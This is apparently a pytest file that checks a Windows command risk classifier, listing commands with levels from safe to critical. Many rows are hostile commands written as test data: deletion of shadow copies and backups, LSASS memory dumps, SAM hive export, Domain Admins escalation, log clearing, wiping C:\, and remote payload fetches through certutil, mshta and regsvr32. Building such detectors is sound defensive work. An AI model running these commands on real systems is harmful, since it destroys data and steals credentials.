"""What programs of Windows would do."""

import pytest

from tests.risk.commands import level_of, reading_of, table

CASES = table(
    r"""
    safe vssadmin list shadows
    safe bcdedit
    safe bcdedit '/?'
    safe bcdedit /store 'C:\bcd' /enum all
    safe net group 'Domain Admins' /domain
    safe wmic os get caption
    safe chkdsk
    safe reg query 'HKLM\Software'
    safe schtasks /query
    safe net user
    safe net start
    safe sc query
    safe icacls file.txt
    safe netsh interface show interface
    safe ipconfig /all
    safe tasklist
    safe wevtutil qe System
    safe auditpol /get '/category:*'
    safe certutil -hashfile a.zip SHA256
    safe systeminfo
    safe powercfg /list
    safe cmd /c dir
    low robocopy a b
    medium del x.txt
    medium reg add 'HKCU\Software\Foo' /v A /d 1 /f
    medium taskkill /im notepad.exe /f
    medium attrib +h x.txt
    medium setx A b
    medium net use z: '\\server\share'
    high? reg add 'HKLM\Software\Microsoft\Windows\CurrentVersion\Run' /v x /d y /f
    high? reg add 'HKCU\Environment' /v UserInitMprLogonScript /d x.bat
    high? reg add '$X' /v x /d y
    high reg add 'HKLM\Software\Foo' /v x /d y
    high reg delete 'HKLM\Software\Foo' /f
    high reg delete 'HKCU\Software\Foo' /f
    high reg query 'HKLM\SAM' /s
    high? reg import settings.reg
    medium reg delete 'HKCU\Software\Foo' /v A /f
    medium? reg export 'HKCU\Software\Foo' foo.reg
    critical reg delete 'HKLM\SYSTEM' /f
    critical? reg export 'HKLM\SAM' sam.reg
    high net user x P@ss /add
    high net localgroup administrators x /add
    high net group 'Domain Admins' x /delete
    high net group Sales x /add
    high dsmod group 'CN=Sales,OU=Administration,DC=corp' -addmbr CN=Administrator,CN=Users,DC=corp
    high net localgroup 'Backup Operators' x /add
    high net localgroup administrators 'CORP\Domain Admins' /add
    high bcdedit /set '{default}' safeboot minimal
    high bcdedit /set testsigning on
    high bcdedit /deletevalue '{default}' safeboot
    high bcdedit /set '{default}' recoveryenabled yes
    critical net group 'Domain Admins' x /add /domain
    critical net localgroup administrators x /add /domain
    critical net rpc group addmem 'Domain Admins' x
    critical dsmod group 'CN=Domain Admins,CN=Users,DC=corp' -addmbr x
    high net stop WinDefend
    high sc.exe delete tool
    high sc config tool start= disabled
    high schtasks /delete /tn x /f
    high icacls 'C:\Data' /grant everyone:F /t
    high takeown /f 'C:\Windows' /r
    high netsh advfirewall set allprofiles state off
    high taskkill /f /im '*'
    high wevtutil cl Security
    high auditpol /clear
    high robocopy a b /mir
    high rd /s /q src
    high setx PATH 'C:\x' /m
    high? wmic process call create calc.exe
    high? diskpart /s x.txt
    high? cscript x.vbs
    high? psexec '\\server' tool
    high? certutil -urlcache -split -f http://203.0.113.9/u.exe u.exe
    critical vssadmin delete shadows /all /quiet
    critical wbadmin delete catalog -quiet
    critical bcdedit /set '{default}' recoveryenabled No
    critical bcdedit /set '{default}' recoveryenabled 0
    critical wmic shadowcopy delete
    critical fsutil usn deletejournal /d 'c:'
    critical cipher '/w:c'
    critical format 'c:' /q
    critical reg save 'HKLM\SAM' sam.hive
    critical del /s /q 'C:\'
    critical rd /s /q 'C:\Users'
    critical cmd.exe /c 'rd /s /q C:\Users && echo done'
    critical cmd /c 'd^el /s /q C:\*'
    critical schtasks /create /tn x /tr 'cmd /c del /s /q C:\'
    critical rundll32.exe 'C:\Windows\System32\comsvcs.dll,' MiniDump 620 l.dmp full
    critical procdump -ma lsass.exe x.dmp
    critical? mshta http://x.example/a.hta
    critical? regsvr32 /s /n /u /i:http://x.example/f.sct scrobj.dll
    """
)


@pytest.mark.parametrize(("level", "understood", "command"), CASES)
def test_a_program_of_windows_has_its_level(level, understood, command):
    reading = reading_of(command)
    assert (level_of(reading).value, reading.understood) == (level, understood), reading.findings
